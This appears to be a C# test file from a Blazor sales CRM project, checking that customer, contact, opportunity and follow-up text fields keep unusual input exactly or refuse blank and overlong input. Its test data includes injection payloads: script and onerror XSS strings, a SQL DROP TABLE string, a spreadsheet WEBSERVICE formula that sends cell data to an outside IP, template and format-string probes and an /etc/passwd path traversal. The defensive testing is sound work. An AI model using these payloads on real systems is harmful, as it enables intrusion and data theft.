using BlazorSalesProject.Customers;
using BlazorSalesProject.Kernel;
using BlazorSalesProject.People;
using BlazorSalesProject.Sales.FollowUps;
using BlazorSalesProject.Sales.Opportunities;
using BlazorSalesProject.Sales.Pipelines;
using BlazorSalesProject.Tests.House;
using Microsoft.EntityFrameworkCore;

namespace BlazorSalesProject.Tests.Reliability;

/// <summary>Whatever is typed into a text: it is kept as it was typed, or refused with one sentence that names the field.</summary>
public sealed class BadInputTests
{
    private static readonly string[] Odd =
    [
        "<script>window.__x=1</script>", "\"><img src=x onerror=alert(1)>", "'; DROP TABLE \"Customers\";--", "=WEBSERVICE(\"http://203.0.113.1/?\"&A1)", "+86 138", "-1", "@SUM(1,1)", "{0} {1} {{}}", "${7*7}", "%s%n", "../../etc/passwd", "null", "NaN",
        "a\u202Eb", "עברית שלום", "مرحبا", "👩‍👩‍👧‍👦 团队", "𠮷野家", "e\u0301 é", "ﬀ ＡＢＣ", "a\u200Bb", "\u00A0x\u00A0", "İstanbul ß", "\uFFFEa", "a\"b", "a'b", "a\\b", "<!--", "]]>", "&amp;", "\u0085x",
    ];

    /// <summary>Not one character of these can be kept.</summary>
    private static readonly string?[] Nothing = [null, "", " ", "\u3000\u00A0", "\r\n\t", "\0", "\u0001\u0002", "\uD800", "\u001B", " \0 "];

    [Theory, BothDatabases]
    public async Task In_every_text_of_the_business(Database on)
    {
        await using var b = new TestBusiness(on.WithDemo());
        var li = await b.As("sales1");
        var customer = await b.Read(db => db.Customers.Where(c => c.OwnerId == li.Id).OrderBy(c => c.Number).Select(c => c.Id).FirstAsync());
        var opportunity = await b.Read(db => db.Opportunities.Where(o => o.OwnerId == li.Id && o.State == OpportunityState.Open).OrderBy(o => o.Number).Select(o => o.Id).FirstAsync());
        var due = b.Clock.Now().AddDays(2);
        var fields = new List<Field>
        {
            new("customer name", Limits.Name, true, t => Add(b.Get<CreateCustomer>().Run(li, Guid.NewGuid(), new CustomerFacts(t), anyway: true)), id => b.Read(db => db.Customers.Where(c => c.Id == id).Select(c => (string?)c.Name).SingleAsync())),
            new("customer note", Limits.LongText, false, t => Add(b.Get<CreateCustomer>().Run(li, Guid.NewGuid(), new CustomerFacts("备注公司") { Note = t }, anyway: true)), id => b.Read(db => db.Customers.Where(c => c.Id == id).Select(c => c.Note).SingleAsync())),
            new("customer industry", Limits.ShortText, false, t => Add(b.Get<CreateCustomer>().Run(li, Guid.NewGuid(), new CustomerFacts("行业公司") { Industry = t }, anyway: true)), id => b.Read(db => db.Customers.Where(c => c.Id == id).Select(c => c.Industry).SingleAsync())),
            new("customer region", Limits.ShortText, false, t => Add(b.Get<CreateCustomer>().Run(li, Guid.NewGuid(), new CustomerFacts("地区公司") { Region = t }, anyway: true)), id => b.Read(db => db.Customers.Where(c => c.Id == id).Select(c => c.Region).SingleAsync())),
            new("customer address", Limits.Name, false, t => Add(b.Get<CreateCustomer>().Run(li, Guid.NewGuid(), new CustomerFacts("地址公司") { Address = t }, anyway: true)), id => b.Read(db => db.Customers.Where(c => c.Id == id).Select(c => c.Address).SingleAsync())),
            new("contact name", Limits.ShortText, true, t => Add(b.Get<AddContact>().Run(li, Guid.NewGuid(), customer, new ContactFacts(t))), id => b.Read(db => db.Contacts.Where(c => c.Id == id).Select(c => (string?)c.Name).SingleAsync())),
            new("contact note", Limits.LongText, false, t => Add(b.Get<AddContact>().Run(li, Guid.NewGuid(), customer, new ContactFacts("备注人", Note: t))), id => b.Read(db => db.Contacts.Where(c => c.Id == id).Select(c => c.Note).SingleAsync())),
            new("contact title", Limits.ShortText, false, t => Add(b.Get<AddContact>().Run(li, Guid.NewGuid(), customer, new ContactFacts("职务人", Title: t))), id => b.Read(db => db.Contacts.Where(c => c.Id == id).Select(c => c.Title).SingleAsync())),
            new("opportunity title", Limits.Name, true, t => Add(b.Get<CreateOpportunity>().Run(li, Guid.NewGuid(), OpportunityKind.System, new OpportunityFacts(t, Money.Of(1, "CNY")))), id => b.Read(db => db.Opportunities.Where(o => o.Id == id).Select(o => (string?)o.Title).SingleAsync())),
            new("opportunity note", Limits.LongText, false, t => Add(b.Get<CreateOpportunity>().Run(li, Guid.NewGuid(), OpportunityKind.System, new OpportunityFacts("备注商机", Money.Of(1, "CNY")) { Note = t })), id => b.Read(db => db.Opportunities.Where(o => o.Id == id).Select(o => o.Note).SingleAsync())),
            new("follow-up", Limits.LongText, true, t => Add(b.Get<RecordFollowUp>().Run(li, Guid.NewGuid(), new FollowUpFacts(opportunity, null, "call", t))), id => b.Read(db => db.FollowUps.Where(f => f.Id == id).Select(f => (string?)f.Text).SingleAsync())),
            new("plan", Limits.Name, true, t => Add(b.Get<PlanFollowUp>().Run(li, Guid.NewGuid(), opportunity, null, new PlanFacts("call", t, due))), id => b.Read(db => db.FollowUpPlans.Where(p => p.Id == id).Select(p => (string?)p.What).SingleAsync())),
        };

        var wrong = new List<string>();
        foreach (var field in fields)
        {
            foreach (var text in Odd)
            {
                var outcome = await field.Write(text);
                if (outcome.Refusal is { } refusal)
                {
                    wrong.Add($"{field.Name} refuses {text}: {refusal.Kind} {refusal.Sentence}");
                }
                else if (await field.Read(outcome.Value) is var kept && kept != Limits.Clean(text))
                {
                    wrong.Add($"{field.Name} keeps {text} as {kept}");
                }
            }

            foreach (var text in Nothing)
            {
                var outcome = await field.Write(text);
                if (field.Required ? outcome.Refusal is not { Kind: RefusalKind.Invalid, Field: not null } : outcome.Refusal is not null)
                {
                    wrong.Add($"{field.Name} with nothing ({Convert.ToHexString(System.Text.Encoding.BigEndianUnicode.GetBytes(text ?? ""))}): {outcome.Refusal?.Kind} {outcome.Refusal?.Sentence}");
                }
                else if (outcome.Ok && await field.Read(outcome.Value) is { } kept)
                {
                    wrong.Add($"{field.Name} makes {kept} of nothing");
                }
            }

            var full = new string('长', field.Longest);
            var longest = await field.Write(full);
            if (!longest.Ok || await field.Read(longest.Value) != full)
            {
                wrong.Add($"{field.Name} does not keep {field.Longest} characters: {longest.Refusal?.Sentence}");
            }

            var longer = await field.Write(full + "长");
            if (longer.Refusal is not { Kind: RefusalKind.Invalid, Field: not null } || !longer.Refusal.Sentence.Contains(field.Longest.ToString(System.Globalization.CultureInfo.InvariantCulture), StringComparison.Ordinal))
            {
                wrong.Add($"{field.Name} with {field.Longest + 1} characters: {longer.Refusal?.Sentence ?? "kept"}");
            }
        }

        Assert.True(wrong.Count == 0, string.Join('\n', wrong));
    }

    [Theory, BothDatabases]
    public async Task In_texts_of_closing_advice_and_saved_views(Database on)
    {
        await using var b = new TestBusiness(on.WithDemo());
        var li = await b.As("sales1");
        var manager = await b.As("salesmgr");
        var id = await b.Read(db => db.Opportunities.Where(o => o.Title == "东莞精密柔性产线").Select(o => o.Id).SingleAsync());
        var today = Clock.BusinessDate(b.Clock.Now());
        Task<int> Version() => b.Read(db => db.Opportunities.Where(o => o.Id == id).Select(o => o.Version).SingleAsync());

        foreach (var nothing in Nothing)
        {
            Assert.Equal("Note", (await b.Get<LoseOpportunity>().Run(li, id, await Version(), "other", nothing, null, today)).Refusal?.Field);
            Assert.Equal("Text", (await b.Get<GiveAdvice>().Run(manager, Guid.NewGuid(), id, nothing)).Refusal?.Field);
            Assert.Equal("Name", (await b.Get<SaveView>().Run(li, "opportunities", nothing, "kind=parts", false)).Refusal?.Field);
        }

        foreach (var reason in new[] { null, "", "no such reason", "<script>", new string('x', 5000) })
        {
            Assert.Equal(RefusalKind.Invalid, (await b.Get<LoseOpportunity>().Run(li, id, await Version(), reason, "x", null, today)).Refusal?.Kind);
        }

        foreach (var amount in new[] { -1L, Money.Largest + 1, long.MinValue, long.MaxValue })
        {
            Assert.Equal("Amount", (await b.Get<WinOpportunity>().Run(li, id, await Version(), new Money(amount, "CNY"), today, null)).Refusal?.Field);
        }

        Assert.Equal(RefusalKind.Invalid, (await b.Get<WinOpportunity>().Run(li, id, await Version(), Money.Of(1, "CNY"), today.AddDays(1), null)).Refusal?.Kind);
        foreach (var stage in new[] { "", "no-such-stage", "Contact", "won", "lost", "'; DROP", "\0", new string('x', 5000) })
        {
            var outcome = await b.Get<MoveOpportunity>().Run(li, id, await Version(), stage);
            Assert.Equal(RefusalKind.Invalid, outcome.Refusal?.Kind);
            Assert.Equal("proposal", await b.Read(db => db.Opportunities.Where(o => o.Id == id).Select(o => o.Stage).SingleAsync()));
        }

        foreach (var text in Odd)
        {
            Assert.True((await b.Get<GiveAdvice>().Run(manager, Guid.NewGuid(), id, text)).Ok, text);
            Assert.True((await b.Get<SaveView>().Run(li, "opportunities", text, text, true)).Ok, text);
        }

        Assert.False((await b.Get<SaveView>().Run(li, new string('x', 1000), "x", "", false)).Refusal?.Kind is null or RefusalKind.Unexpected);
        Assert.False((await b.Get<SavePreference>().Run(li, new string('x', 1000), "{}")).Refusal?.Kind is null or RefusalKind.Unexpected);
    }

    private static async Task<Outcome<Guid>> Add(Task<Outcome<Guid>> task) => await task;

    private sealed record Field(string Name, int Longest, bool Required, Func<string?, Task<Outcome<Guid>>> Write, Func<Guid, Task<string?>> Read);
}
